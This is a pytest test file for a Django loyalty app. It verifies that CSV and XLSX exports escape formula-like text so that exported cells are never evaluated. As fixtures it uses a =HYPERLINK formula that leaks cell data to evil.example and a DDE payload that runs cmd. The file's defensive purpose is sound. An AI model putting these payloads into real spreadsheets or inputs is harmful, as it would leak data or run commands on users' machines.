"""Every export is inert: a text cell never runs as a formula, a number stays a number.

CSV has no cell types: formula-like text gets a leading apostrophe. In .xlsx
the same text is a text cell with Excel's quote prefix, so it shows exactly
as typed (no apostrophe) and is never evaluated.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin

from loyalty_promos import api
from loyalty_promos.admin.mixins import InertExportMixin
from loyalty_promos.models import CodeBatch, Coupon
from loyalty_promos.reports.exporters import escape_formula
from tests import factories

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
CODE_FIELDS = ("code", "coupon", "max_uses", "is_active", "uses", "batch")


def read_csv(response) -> list[list[str]]:
    content = getattr(response, "content", None)
    if content is None:
        content = b"".join(response.streaming_content)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(response):
    content = getattr(response, "content", None)
    if content is None:
        content = b"".join(response.streaming_content)
    return openpyxl.load_workbook(io.BytesIO(content)).active


@pytest.fixture
def evil_codes():
    coupon = factories.CouponFactory(name=HYPERLINK)
    batch = CodeBatch.objects.create(coupon=coupon, source="pasted", label="-20% weekends")
    factories.CouponCodeFactory(coupon=coupon, code="EVIL01", batch=batch, max_uses=3)
    return coupon


def export_codes(client, file_format: str, **extra):
    return client.post(
        reverse("admin:loyalty_promos_couponcode_export"),
        {
            "format": file_format,
            "resource": "0",
            **{f"couponcoderesource_{f}": "on" for f in CODE_FIELDS},
            **extra,
        },
    )


# The codes list (django-import-export's export page and action) ---------------------------------


def test_the_codes_list_csv_export_escapes_the_promo_code_name(admin_client, evil_codes):
    response = export_codes(admin_client, "0")

    assert read_csv(response) == [
        ["code", "promo code", "maximum uses of this code", "active", "uses", "batch"],
        ["EVIL01", "'" + HYPERLINK, "3", "1", "0", "'-20% weekends"],
    ]


def test_the_export_selected_codes_action_escapes_too(admin_client, evil_codes):
    code = evil_codes.codes.get()

    response = export_codes(admin_client, "0", export_items=[code.pk])

    assert read_csv(response)[1][1] == "'" + HYPERLINK


def test_the_codes_list_xlsx_export_writes_text_cells_and_numbers(admin_client, evil_codes):
    response = export_codes(admin_client, "1")

    sheet = read_xlsx(response)
    assert [c.value for c in sheet[1]] == [
        "code", "promo code", "maximum uses of this code", "active", "uses", "batch"
    ]  # fmt: skip
    code, coupon, max_uses, active, uses, batch = sheet[2]
    assert (coupon.value, coupon.data_type, coupon.quotePrefix) == (HYPERLINK, "s", True)
    assert (batch.value, batch.data_type, batch.quotePrefix) == ("-20% weekends", "s", True)
    assert (code.value, code.data_type, code.quotePrefix) == ("EVIL01", "s", False)
    assert (max_uses.value, max_uses.data_type) == (3, "n")
    assert (uses.value, uses.data_type) == (0, "n")
    assert (active.value, active.data_type) == (True, "b")


def test_every_import_export_admin_of_the_app_exports_through_our_writers():
    exporting = [
        model_admin
        for model, model_admin in admin.site._registry.items()
        if model._meta.app_label == "loyalty_promos" and isinstance(model_admin, ExportMixin)
    ]

    assert exporting  # the codes list at least
    assert all(isinstance(model_admin, InertExportMixin) for model_admin in exporting)


# Reports -----------------------------------------------------------------------------------------


@pytest.fixture
def weekend_coupon(customer):
    coupon = factories.CouponFactory(name="-20% weekends", code="WEEKEND")
    api.checkout(factories.AppointmentFactory(customer=customer), code="WEEKEND")
    return coupon


def test_a_report_xlsx_shows_formula_like_text_as_typed_without_an_apostrophe(
    admin_client, weekend_coupon
):
    url = reverse("admin:loyalty_promos_report", args=["coupons"])

    sheet = read_xlsx(admin_client.get(url, {"export": "xlsx"}))

    name = sheet["A2"]
    assert (name.value, name.data_type, name.quotePrefix) == ("-20% weekends", "s", True)
    discount = sheet.cell(2, 5)
    assert (discount.value, discount.data_type) == (5, "n")


def test_a_report_csv_escapes_text_but_never_a_negative_number(admin_client, customer):
    api.adjust_points(customer, 50, "Welcome")
    api.adjust_points(customer, -20, "=cmd|' /C calc'!A0")
    url = reverse("admin:loyalty_promos_report", args=["points"])

    rows = read_csv(admin_client.get(url, {"export": "csv"}))
    sheet = read_xlsx(admin_client.get(url, {"export": "xlsx"}))

    header = rows[0]
    points, description = header.index("points"), header.index("description")
    assert [(r[points], r[description]) for r in rows[1:]] == [
        ("-20", "'=cmd|' /C calc'!A0"),
        ("50", "Welcome"),
    ]
    cell = sheet.cell(2, points + 1)
    assert (cell.value, cell.data_type) == (-20, "n")
    text = sheet.cell(2, description + 1)
    assert (text.value, text.data_type, text.quotePrefix) == ("=cmd|' /C calc'!A0", "s", True)


def test_a_header_that_looks_like_a_formula_is_text_too():
    from loyalty_promos.reports.exporters import write_xlsx

    with write_xlsx(["=1+1", "n"], [["@SUM(A1)", Decimal("-5.00")]]) as handle:
        sheet = openpyxl.load_workbook(handle).active

    assert [(c.value, c.data_type) for c in sheet[1]] == [("=1+1", "s"), ("n", "s")]
    assert [(c.value, c.data_type) for c in sheet[2]] == [("@SUM(A1)", "s"), (-5, "n")]


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-20% weekends", "'-20% weekends"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("＝1+1", "'＝1+1"),  # full width: some spreadsheets convert it
        ("Camille", "Camille"),
        (Decimal("-5.00"), Decimal("-5.00")),  # a number is not text
        (-20, -20),
        (None, None),
    ],
)
def test_the_one_escaping_rule(value, escaped):
    assert escape_formula(value) == escaped


def test_a_model_instance_is_escaped_as_its_text():
    coupon = Coupon(name="=2+2")

    assert escape_formula(coupon) == "'=2+2"


def test_the_codes_export_is_named_after_what_it_holds(admin_client, evil_codes):
    csv_response = export_codes(admin_client, "0")
    xlsx_response = export_codes(admin_client, "1")

    assert 'filename="couponcode_2026-03-14.csv"' in csv_response["Content-Disposition"]
    assert 'filename="couponcode_2026-03-14.xlsx"' in xlsx_response["Content-Disposition"]
